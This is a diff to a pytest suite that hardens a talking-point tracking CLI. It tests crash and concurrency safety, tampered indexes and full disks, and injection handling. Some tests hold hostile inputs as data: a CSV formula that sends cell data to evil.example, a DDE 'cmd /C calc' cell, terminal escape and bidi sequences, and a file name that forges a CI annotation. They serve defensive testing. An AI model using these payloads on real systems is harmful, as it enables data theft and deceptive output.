@@ -16,6 +16,7 @@ import subprocess
 import sys
 from collections.abc import Sequence
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner
@@ -72,7 +73,7 @@ def fx(tmp_path: Path) -> Path:
     return tmp_path / "fx"
 
 
-def gate(fx: Path, *more: str | Path) -> list[str | Path]:
+def gate(fx: Path, *more: str | Path, against: Path | None = None) -> list[str | Path]:
     """``check`` of the 2025-10-22 seed against the earlier seeds (2 findings with tp.toml)."""
     return [
         "check",
@@ -80,7 +81,7 @@ def gate(fx: Path, *more: str | Path) -> list[str | Path]:
         "--date",
         "2025-10-22",
         "--against",
-        fx,
+        fx if against is None else against,
         "--until",
         "2025-10-21",
         *more,
@@ -374,6 +375,34 @@ def test_f8_a_pipe_named_on_the_command_line_is_read(fx: Path) -> None:
     assert doc["words"]["official"] > 0 and len(text) > 1000
 
 
+def test_f8_a_fifo_named_on_the_command_line_waits_for_its_writer(fx: Path) -> None:
+    fifo = fx.parent / "2025-10-22_pipe.txt"
+    os.mkfifo(fifo)
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    reader = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "consistency",
+            "--no-config",
+            "ingest",
+            str(fifo),
+            "--format",
+            "json",
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=env,
+    )
+    with open(fifo, "w") as writer:  # blocks until the reader has opened the FIFO
+        writer.write((fx / FIRST).read_text())
+    out, err = reader.communicate(timeout=60)
+    assert reader.returncode == 0, err
+    (doc,) = json.loads(out)["documents"]
+    assert doc["date"] == "2025-10-22" and doc["words"]["official"] > 0
+
+
 # F9 Symlinked sub-folders, F10 symlinks out of the tree -------------------------------------
 
 
@@ -495,8 +524,7 @@ def _periodic_docs(unit: str, times: int, dates: Sequence[str]) -> list[Document
     from consistency import document_from_text
 
     return [
-        document_from_text(unit * times, id=f"{d}_p", date=dt.date.fromisoformat(d))
-        for d in dates
+        document_from_text(unit * times, id=f"{d}_p", date=dt.date.fromisoformat(d)) for d in dates
     ]
 
 
@@ -551,10 +579,10 @@ def test_f12_index_and_check_on_periodic_files(fx: Path, xy: Path) -> None:
     code, out, err = run("--no-config", "index", xy, "--db", db)
     assert code == 0, err
     assert out.startswith("7 added")
-    code, out, err = run("--no-config", *gate(fx)[:-4], "--against", xy, "--until", "2025-10-21")
+    code, out, err = run("--no-config", *gate(fx, against=xy))
     assert code in (0, 1), err
     assert "Checked 1 new briefing against 6 briefings" in out
-    code, out, err = run("--no-config", *gate(fx)[:-4], "--against", db, "--until", "2025-10-21")
+    code, out, err = run("--no-config", *gate(fx, against=db))
     assert code in (0, 1), err
 
 
@@ -577,3 +605,649 @@ def test_f12_report_on_periodic_input_ends(tmp_path: Path, name: str, content: s
     assert code == 0, err
     assert "No talking points." in out
     assert "no formulation recurs" in err
+
+
+# F13 A killed first build, F14 concurrent first builds ----------------------------------------
+
+_BUILD = """
+import os, signal, sys, time
+from consistency import load_documents
+from consistency.index import update_index
+docs = load_documents([sys.argv[2]])
+mode = sys.argv[3]
+def discoverer(stored):
+    if mode == "kill":
+        os.kill(os.getpid(), signal.SIGKILL)
+    time.sleep(0.3)
+    return []
+docs = docs[:3] if mode == "first" else docs[3:] if mode == "last" else docs
+print(update_index(sys.argv[1], docs, discoverer=discoverer).added)
+"""
+
+
+def _build(db: Path, folder: Path, mode: str) -> subprocess.Popen[str]:
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    return subprocess.Popen(
+        [sys.executable, "-c", _BUILD, str(db), str(folder), mode],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=env,
+    )
+
+
+def _names(db: Path) -> list[str]:
+    from consistency.index import Index
+
+    with Index(db) as index:
+        return sorted(d.id for d in index.documents())
+
+
+def test_f13_a_build_killed_before_its_commit_leaves_no_index(fx: Path) -> None:
+    db = fx.parent / "k.db"
+    killed = _build(db, fx, "kill")
+    killed.communicate(timeout=60)
+    assert killed.returncode == -9
+    assert not db.exists()  # the half-built file is a hidden temporary, never k.db
+    leftovers = list(fx.parent.glob(".k.db.*"))
+    assert leftovers
+    code, out, err = run("--no-config", "index", fx, "--db", db)
+    assert code == 0, err
+    assert out.startswith("5 added")
+    assert not list(fx.parent.glob(".k.db.*"))  # the killed build's files were swept
+
+
+def test_f13_an_empty_database_left_by_a_killed_build_is_built_over(fx: Path) -> None:
+    import sqlite3
+
+    db = fx.parent / "old.db"
+    con = sqlite3.connect(db)
+    con.execute("PRAGMA journal_mode=WAL")
+    con.close()
+    code, out, err = run("--no-config", "index", fx, "--db", db)
+    assert code == 0, err
+    code, out, err = run("--no-config", "index", fx, "--db", db, "--rebuild")
+    assert code == 0, err
+    assert out.startswith("5 added")
+
+
+def test_f14_concurrent_first_builds_lose_nothing(fx: Path) -> None:
+    db = fx.parent / "race.db"
+    a, b = _build(db, fx, "first"), _build(db, fx, "last")
+    out_a, err_a = a.communicate(timeout=60)
+    out_b, err_b = b.communicate(timeout=60)
+    assert (a.returncode, b.returncode) == (0, 0), err_a + err_b
+    assert (int(out_a), int(out_b)) == (3, 2)
+    assert len(_names(db)) == 5  # both runs' documents: neither replaced the other's index
+
+
+def test_f14_concurrent_index_commands(fx: Path) -> None:
+    db = fx.parent / "race.db"
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    command = [
+        sys.executable,
+        "-m",
+        "consistency",
+        "--no-config",
+        "index",
+        str(fx),
+        "--db",
+        str(db),
+    ]
+    runs = [subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=env) for _ in range(2)]
+    outs = [r.communicate(timeout=60)[0] for r in runs]
+    assert [r.returncode for r in runs] == [0, 0]
+    assert sorted(o.split(",")[0] for o in outs) == ["0 added", "5 added"]
+    assert len(_names(db)) == 5
+
+
+# F15 Damaged or tampered index, F16 read-only and immutable index -----------------------------
+
+
+@pytest.fixture
+def fxdb(fx: Path) -> Path:
+    db = fx.parent / "fx.db"
+    code, _, err = run("--no-config", "index", fx, "--db", db)
+    assert code == 0, err
+    return db
+
+
+@pytest.mark.parametrize(
+    ("sql", "check_reads_it"),
+    [
+        ("update documents set date='garbage' where id=3", True),
+        ("drop table points", True),
+        ("update sentences set role='emperor'", True),
+        ("update sentences set spans=x'00'", True),
+        ("update points set data='[1,2'", True),
+        ("update points set data=json_set(data,'$.level','fatal')", True),
+        ("update documents set date=5", True),
+        ("drop table sentences", True),
+        ("update documents set turns='[1]'", False),
+    ],
+)
+def test_f15_tampered_index_is_one_error(
+    fx: Path, fxdb: Path, sql: str, check_reads_it: bool
+) -> None:
+    import sqlite3
+
+    con = sqlite3.connect(fxdb)
+    con.execute(sql)
+    con.commit()
+    con.close()
+    extra = fx.parent / "2026-01-01_n.txt"
+    extra.write_text("2026-01-01\n\nWe uphold peace and stability in the region.\n")
+    code, _, err = run("--no-config", *gate(fx, "--fail-on", "shifted,rephrased", against=fxdb))
+    if check_reads_it:
+        one_error(code, err, str(fxdb))
+    else:
+        assert code in (0, 1), err
+    for command in (["index", fx, "--db", fxdb], ["index", fx, extra, "--db", fxdb]):
+        code, _, err = run("--no-config", *command)
+        if code != 0:
+            one_error(code, err, str(fxdb))
+    code, out, err = run("--no-config", "index", fx, "--db", fxdb, "--rebuild")
+    assert code == 0, err
+    assert out.startswith("5 added")
+
+
+def test_f15_corrupted_pages_are_one_error_and_rebuild_recovers(fx: Path, fxdb: Path) -> None:
+    import random
+
+    size = fxdb.stat().st_size
+    rng = random.Random(5)
+    with open(fxdb, "r+b") as f:
+        for _ in range(20):
+            f.seek(rng.randrange(4096, size - 1024))
+            f.write(rng.randbytes(512))
+    result = proc("--no-config", *gate(fx, against=fxdb))
+    assert result.returncode == 2, result.stderr
+    assert len(result.stderr.splitlines()) == 1 and "Traceback" not in result.stderr
+    assert "damaged consistency index" in result.stderr
+    code, _, err = run("--no-config", "index", fx, "--db", fxdb)
+    one_error(code, err, str(fxdb), "damaged consistency index")
+    code, _, err = run("--no-config", "index", fx, "--db", fxdb, "--rebuild")
+    assert code == 0, err
+    assert _names(fxdb)
+
+
+def test_f15_rebuild_never_replaces_another_programs_database(fx: Path) -> None:
+    import sqlite3
+
+    other = fx.parent / "other.db"
+    con = sqlite3.connect(other)
+    con.execute("create table t (x)")
+    con.commit()
+    con.close()
+    before = other.read_bytes()
+    code, _, err = run("--no-config", "index", fx, "--db", other, "--rebuild")
+    one_error(code, err, "other.db", "another program")
+    assert other.read_bytes() == before
+
+
+def _root_only(*command: str) -> None:
+    try:
+        subprocess.run(command, check=True, capture_output=True)
+    except (OSError, subprocess.CalledProcessError) as e:
+        pytest.skip(f"{command[0]} not possible here: {e}")
+
+
+def test_f16_index_on_a_read_only_file_system(fx: Path, fxdb: Path) -> None:
+    ro = fx.parent / "ro"
+    ro.mkdir()
+    _root_only("mount", "--bind", str(fxdb.parent), str(ro))
+    try:
+        _root_only("mount", "-o", "remount,ro,bind", str(ro))
+        code, out, err = run("--no-config", *gate(fx, against=ro / "fx.db"))
+        assert code in (0, 1), err
+        assert "Checked 1 new briefing" in out
+        code, _, err = run("--no-config", "index", fx, "--db", ro / "fx.db")
+        one_error(code, err, "fx.db", "cannot")
+        code, _, err = run("--no-config", "index", fx, "--db", ro / "new.db")
+        one_error(code, err, "new.db", "Read-only file system")
+    finally:
+        subprocess.run(["umount", str(ro)], check=False)
+
+
+def test_f16_immutable_index_file(fx: Path, fxdb: Path) -> None:
+    _root_only("chattr", "+i", str(fxdb))
+    try:
+        before = fxdb.read_bytes()
+        (fx / "2026-01-01_n.txt").write_text("2026-01-01\n\nWe uphold peace and stability.\n")
+        for extra in ([], ["--rebuild"]):
+            code, _, err = run("--no-config", "index", fx, "--db", fxdb, *extra)
+            one_error(code, err, str(fxdb), "cannot")
+        code, _, err = run("--no-config", *gate(fx, against=fxdb))
+        assert code in (0, 1), err
+    finally:
+        subprocess.run(["chattr", "-i", str(fxdb)], check=False)
+    assert fxdb.read_bytes() == before
+
+
+# F17 Disk full ----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def tiny(tmp_path: Path) -> Any:
+    folder = tmp_path / "tiny"
+    folder.mkdir()
+    _root_only("mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder))
+    yield folder
+    subprocess.run(["umount", str(folder)], check=False)
+
+
+def _fill(folder: Path, leave: int = 0) -> None:
+    """Fill the file system of ``folder`` up to ``leave`` bytes (in 4 KiB blocks)."""
+    free = os.statvfs(folder).f_bavail * os.statvfs(folder).f_frsize
+    try:
+        with open(folder / "fill", "wb") as f:
+            f.write(b"\0" * max(0, free - leave))
+            f.flush()
+            while not leave:
+                f.write(b"\0" * 4096)
+                f.flush()
+    except OSError:
+        pass
+
+
+def test_f17_output_on_a_full_disk(fx: Path, tiny: Path) -> None:
+    (tiny / "r.txt").write_text("OLD\n")
+    _fill(tiny)
+    code, _, err = run("--no-config", "report", fx, "-o", tiny / "r.txt")
+    one_error(code, err, "r.txt", "No space left on device")
+    assert (tiny / "r.txt").read_text() == "OLD\n"
+    assert sorted(p.name for p in tiny.iterdir()) == ["fill", "r.txt"]
+
+
+def test_f17_index_on_a_full_disk(fx: Path, fxdb: Path, tiny: Path) -> None:
+    shutil.copy(fxdb, tiny / "fx.db")
+    _fill(tiny, leave=16 * 1024)
+    before = (tiny / "fx.db").read_bytes()
+    shutil.copytree(fx, fx.parent / "more")
+    for k in range(30):
+        (fx.parent / "more" / f"2026-01-{k + 1:02d}_n.txt").write_text(
+            f"2026-01-01\n\nWe uphold peace and stability number {k} in the region, "
+            + "said the spokesperson once more. " * 40
+        )
+    code, _, err = run("--no-config", "index", fx.parent / "more", "--db", tiny / "fx.db")
+    one_error(code, err, "fx.db", "full")
+    assert (tiny / "fx.db").read_bytes() == before
+    code, _, err = run("--no-config", "index", fx.parent / "more", "--db", tiny / "new.db")
+    one_error(code, err, "new.db")
+    assert not (tiny / "new.db").exists()
+    # no temporary file left; the write-ahead log holds only the rolled-back transaction
+    assert {p.name for p in tiny.iterdir()} <= {"fill", "fx.db", "fx.db-wal", "fx.db-shm"}
+    assert len(_names(tiny / "fx.db")) == 5
+
+
+@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["report", "{fx}"],
+        [
+            "check",
+            "{fx}/" + FIRST,
+            "--date",
+            "2025-10-22",
+            "--against",
+            "{fx}",
+            "--until",
+            "2025-10-21",
+            "--points",
+            "{tp}",
+            "--fail-on",
+            "none",
+        ],
+    ],
+)
+def test_f17_standard_output_on_a_full_device(fx: Path, command: list[str]) -> None:
+    args = [a.format(fx=fx, tp=fx.parent / "tp.toml") for a in command]
+    with open("/dev/full", "w") as full:
+        result = subprocess.run(
+            [sys.executable, "-m", "consistency", "--no-config", *args],
+            stdout=full,
+            stderr=subprocess.PIPE,
+            text=True,
+            env={**os.environ, "PYTHONPATH": str(ROOT)},
+            check=False,
+        )
+    one_error(result.returncode, result.stderr, "<stdout>", "No space left on device")
+    assert Path("/dev/full").is_char_device()
+
+
+# F18 -o onto devices, FIFOs and symbolic links; F24 -o onto an input ---------------------------
+
+
+def test_f18_output_onto_a_device_writes_through(fx: Path) -> None:
+    node = fx.parent / "mynull"
+    try:
+        os.mknod(node, 0o666 | 0o020000, os.makedev(1, 3))
+    except OSError as e:
+        pytest.skip(f"cannot make a device node here: {e}")
+    code, _, err = run("--no-config", "report", fx, "-o", node)
+    assert code == 0, err
+    assert node.is_char_device()
+
+
+def test_f18_output_onto_a_fifo_writes_through(fx: Path) -> None:
+    fifo = fx.parent / "myfifo"
+    os.mkfifo(fifo)
+    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE, text=True)
+    code, _, err = run("--no-config", "report", fx, "-o", fifo)
+    got = reader.communicate(timeout=30)[0]
+    assert code == 0, err
+    assert fifo.is_fifo()
+    assert got.startswith("Talking-point report")
+
+
+def test_f18_output_onto_a_link_to_standard_output(fx: Path) -> None:
+    link = fx.parent / "stdout"
+    link.symlink_to("/proc/self/fd/1")
+    result = proc("--no-config", "report", fx, "-o", link)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.startswith("Talking-point report")
+    assert link.is_symlink()
+
+
+def test_f18_output_onto_a_link_to_a_file_replaces_the_target(fx: Path) -> None:
+    real = fx.parent / "real.txt"
+    real.write_text("old\n")
+    link = fx.parent / "link.txt"
+    link.symlink_to("real.txt")
+    code, _, err = run("--no-config", "report", fx, "-o", link)
+    assert code == 0, err
+    assert link.is_symlink() and real.read_text().startswith("Talking-point report")
+
+
+@pytest.mark.parametrize(
+    ("command", "victim"),
+    [
+        (["report", "{fx}/" + FIRST, "--points", "{tp}", "-o", "{fx}/" + FIRST], FIRST),
+        (["track", "{fx}", "--points", "{tp}", "-o", "{tp}"], "tp.toml"),
+        (["track", "{fx}", "--points", "{tp}", "-o", "{fx}/manifest.csv"], "manifest.csv"),
+        (["report", "{fx}", "-o", "{fx}/report.md"], "fx"),
+        (["diff", "{fx}/" + FIRST, "{fx}/001_ea51057881414630.txt", "-o", "{fx}/" + FIRST], FIRST),
+        (
+            [
+                "check",
+                "{fx}/" + FIRST,
+                "--date",
+                "2025-10-22",
+                "--against",
+                "{fx}",
+                "-o",
+                "{fx}/004_d0784a09b45da4f1.txt",
+            ],
+            "004_d0784a09b45da4f1.txt",
+        ),
+    ],
+)
+def test_f24_output_onto_an_input_is_refused(fx: Path, command: list[str], victim: str) -> None:
+    before = {p.name: p.read_bytes() for p in [*fx.iterdir(), fx.parent / "tp.toml"]}
+    args = [a.format(fx=fx, tp=fx.parent / "tp.toml") for a in command]
+    code, _, err = run("--no-config", *args)
+    one_error(code, err, victim)
+    assert {p.name: p.read_bytes() for p in [*fx.iterdir(), fx.parent / "tp.toml"]} == before
+
+
+def test_f24_output_beside_the_inputs_is_fine(fx: Path) -> None:
+    code, _, err = run("--no-config", "report", fx, "-o", fx / "report.json")
+    assert code == 0, err
+    code, _, err = run("--no-config", "report", fx, "-o", fx.parent / "report.md")
+    assert code == 0, err
+
+
+# F19 CSV formula injection ----------------------------------------------------------------------
+
+
+def test_f19_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    base = "We uphold peace and stability in the region."
+    rows = [
+        {
+            "id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            "date": "2025-01-01",
+            "text": base,
+        },
+        {
+            "id": "@SUM(A1:A9)",
+            "date": "2025-02-01",
+            "text": base.replace("peace and", "peace and lasting"),
+        },
+        {"id": "+cmd|' /C calc'!A0", "date": "2025-03-01", "text": base},
+        {"id": "-2+3", "date": "2025-04-01", "text": base},
+    ]
+    folder = tmp_path / "csvinj"
+    folder.mkdir()
+    (folder / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
+    peace = tmp_path / "peace.toml"
+    peace.write_text('[[point]]\nid="peace"\ntext="uphold peace and stability in the region"\n')
+    code, out, err = run("--no-config", "track", folder, "--points", peace, "--format", "csv")
+    assert code == 0, err
+    import csv
+    import io
+
+    table = list(csv.reader(io.StringIO(out)))
+    documents = [row[1] for row in table[1:]]
+    assert len(documents) == 4
+    assert not any(cell.startswith(tuple("=+-@\t\r")) for row in table for cell in row), table
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in documents
+    assert "'@SUM(A1:A9)" in documents
+
+
+# F20 Terminal escapes and bidi overrides; F21 newlines in names -------------------------------
+
+
+@pytest.fixture
+def ansi(tmp_path: Path) -> Path:
+    folder = tmp_path / "ansi"
+    folder.mkdir()
+    for i, d in enumerate(["2025-01-01", "2025-02-01", "2025-03-01"]):
+        text = (
+            "Briefing \x1b]0;PWNED-TITLE\x07\x1b[41m on regional matters \x1b[0m Today\n"
+            f"{d}\n\nThe statement on regional \x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31m security "
+            "is firm and unwavering \u202eevil\u202c.\n"
+        )
+        if i == 2:
+            text = text.replace("firm and", "firm and very")
+        (folder / f"{d}_b.txt").write_text(text)
+    (tmp_path / "ansi.toml").write_text(
+        '[[point]]\nid="ansi"\ntext="statement on regional security is firm and unwavering"\n'
+    )
+    return folder
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["ingest", "{a}"],
+        ["report", "{a}", "--points", "{p}", "--no-color"],
+        ["report", "{a}", "--points", "{p}", "--format", "markdown"],
+        ["track", "{a}", "--points", "{p}", "--format", "csv"],
+        ["report", "{a}", "--no-color", "--min-dates", "1"],
+        ["discover", "{a}", "--min-dates", "1"],
+        [
+            "check",
+            "{a}/2025-03-01_b.txt",
+            "--against",
+            "{a}",
+            "--until",
+            "2025-02-28",
+            "--points",
+            "{p}",
+            "--no-color",
+        ],
+        ["diff", "{a}/2025-01-01_b.txt", "{a}/2025-03-01_b.txt", "--points", "{p}", "--no-color"],
+    ],
+)
+def test_f20_no_control_or_bidi_character_reaches_the_output(
+    ansi: Path, command: list[str]
+) -> None:
+    args = [a.format(a=ansi, p=ansi.parent / "ansi.toml") for a in command]
+    code, out, err = run("--no-config", *args)
+    assert code in (0, 1), err
+    assert out
+    for bad in ("\x1b", "\x07", "\u202e", "\u202c"):
+        assert bad not in out and bad not in err, (bad, out)
+
+
+def test_f20_with_colour_only_our_own_colour_codes(ansi: Path) -> None:
+    import re
+
+    code, out, err = run(
+        "--no-config", "report", ansi, "--points", ansi.parent / "ansi.toml", "--color"
+    )
+    assert code == 0, err
+    assert "\x1b" in out
+    assert re.sub(r"\x1b\[[0-9;]*m", "", out).count("\x1b") == 0
+
+
+def test_f20_title_keeps_visible_replacements(ansi: Path) -> None:
+    from consistency import load_documents
+
+    # one file alone: read with the other two, a line heading every briefing is no title
+    doc = load_documents([ansi / "2025-01-01_b.txt"])[0]
+    assert (
+        doc.title
+        == "Briefing \ufffd]0;PWNED-TITLE\ufffd\ufffd[41m on regional matters \ufffd[0m Today"
+    )
+    assert "\u202e" not in doc.text and "evil" in doc.text
+
+
+def test_f20_watchlist_with_control_characters_refused(ansi: Path) -> None:
+    bad = ansi.parent / "bad.toml"
+    bad.write_text('[[point]]\nid="x"\ntext="regional \\u001b]0;x\\u0007 security"\n')
+    code, _, err = run("--no-config", "track", ansi, "--points", bad)
+    one_error(code, err, "bad.toml:1", "control or bidi character", "\\x1b]0;x\\x07")
+
+
+@pytest.fixture
+def newline_name(tmp_path: Path) -> Path:
+    base = tmp_path / "gh" / "base"
+    base.mkdir(parents=True)
+    (base / "2025-01-01_a.txt").write_text(
+        "2025-01-01\n\nWe uphold peace and stability in the region.\n"
+    )
+    (base / "2025-02-01_b.txt").write_text(
+        "2025-02-01\n\nWe uphold peace and stability in the region.\n"
+    )
+    forged = (
+        tmp_path / "gh" / "2025-03-01_x\n::error file=evil.py,line=1::INJECTED via filename\n.txt"
+    )
+    forged.write_text("2025-03-01\n\nWe uphold peace and lasting stability in the region.\n")
+    (tmp_path / "peace.toml").write_text(
+        '[[point]]\nid="peace"\ntext="uphold peace and stability in the region"\n'
+    )
+    return forged
+
+
+@pytest.mark.parametrize("fmt", ["text", "github", "json", "junit"])
+def test_f21_newline_in_a_file_name_forges_no_line(newline_name: Path, fmt: str) -> None:
+    peace = newline_name.parent.parent / "peace.toml"
+    result = proc(
+        "--no-config",
+        "check",
+        newline_name,
+        "--against",
+        newline_name.parent / "base",
+        "--points",
+        peace,
+        "--format",
+        fmt,
+    )
+    assert result.returncode == 1, result.stderr
+    lines = result.stdout.splitlines()
+    commands = [line for line in lines if line.startswith("::")]
+    # watchlist points are of level error: github's one real annotation is "::error"
+    assert commands == (lines[:1] if fmt == "github" else [])
+    if fmt == "text":
+        assert (
+            "2025-03-01_x\\n::error file=evil.py,line=1::INJECTED via filename\\n.txt:3:4: "
+            in (lines[0])
+        )
+    if fmt == "github":
+        assert lines[0].startswith("::error file=")
+        assert "2025-03-01_x\\n%3A%3Aerror file=evil.py%2Cline=1" in lines[0]
+
+
+def test_f21_names_are_one_printable_line(newline_name: Path) -> None:
+    from consistency import load_documents
+
+    (doc,) = load_documents([newline_name])
+    assert "\n" not in doc.id and "\n" not in doc.path
+    assert doc.id == "2025-03-01_x\\n::error file=evil.py,line=1::INJECTED via filename\\n"
+
+
+# Flaky CI: hypothesis derandomized --------------------------------------------------------------
+
+
+def test_hypothesis_runs_derandomized_by_default() -> None:
+    from hypothesis import settings
+
+    if os.environ.get("HYPOTHESIS_PROFILE", "ci") == "ci":
+        assert settings().derandomize is True
+        assert settings().deadline is None
+
+
+def _peace(tmp_path: Path) -> list[Any]:
+    from consistency import load_watchlist
+
+    peace = tmp_path / "peace.toml"
+    peace.write_text('[[point]]\nid="peace"\ntext="uphold peace and stability in the region"\n')
+    return load_watchlist(peace)
+
+
+def test_f12_a_formula_repeated_without_full_stops_is_found_every_time(tmp_path: Path) -> None:
+    """One sentence of 4,800 words: the matcher searches it block by block (linear), not
+    once per occurrence over all that follows (quadratic: minutes at 8,000 words)."""
+    from consistency import document_from_text, track
+
+    text = "2025-01-01\n\n" + "we uphold peace and stability in the region " * 600
+    doc = document_from_text(text, id="d", date=dt.date(2025, 1, 1))
+    (point,) = track([doc], _peace(tmp_path)).points
+    assert len(point.occurrences) == 600
+    assert {o.text for o in point.occurrences} == {"uphold peace and stability in the region"}
+
+
+def test_f12_block_search_finds_what_the_whole_search_finds(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import random
+
+    import consistency.match.find as find
+    from consistency import document_from_text, track
+
+    rng = random.Random(3)
+    filler = [
+        "the",
+        "minister",
+        "said",
+        "that",
+        "cooperation",
+        "between",
+        "the",
+        "two",
+        "countries",
+        "grew",
+    ]
+    forms = [
+        "uphold peace and stability in the region",
+        "uphold peace and lasting stability in the region",
+        "peace and stability in this region",
+        "firmly uphold peace stability in the region",
+    ]
+    words: list[str] = []
+    while len(words) < 3000:
+        if rng.random() < 0.15:
+            words.extend(rng.choice(forms).split())
+        else:
+            words.extend(rng.sample(filler, rng.randint(1, 6)))
+    doc = document_from_text(
+        "2025-01-01\n\n" + " ".join(words) + "\n", id="d", date=dt.date(2025, 1, 1)
+    )
+    points = _peace(tmp_path)
+    blocked = [(o.start, o.end, o.score) for o in track([doc], points).points[0].occurrences]
+    monkeypatch.setattr(find, "LONG_SPAN", 10**9)
+    whole = [(o.start, o.end, o.score) for o in track([doc], points).points[0].occurrences]
+    assert len(blocked) > 50
+    assert blocked == whole
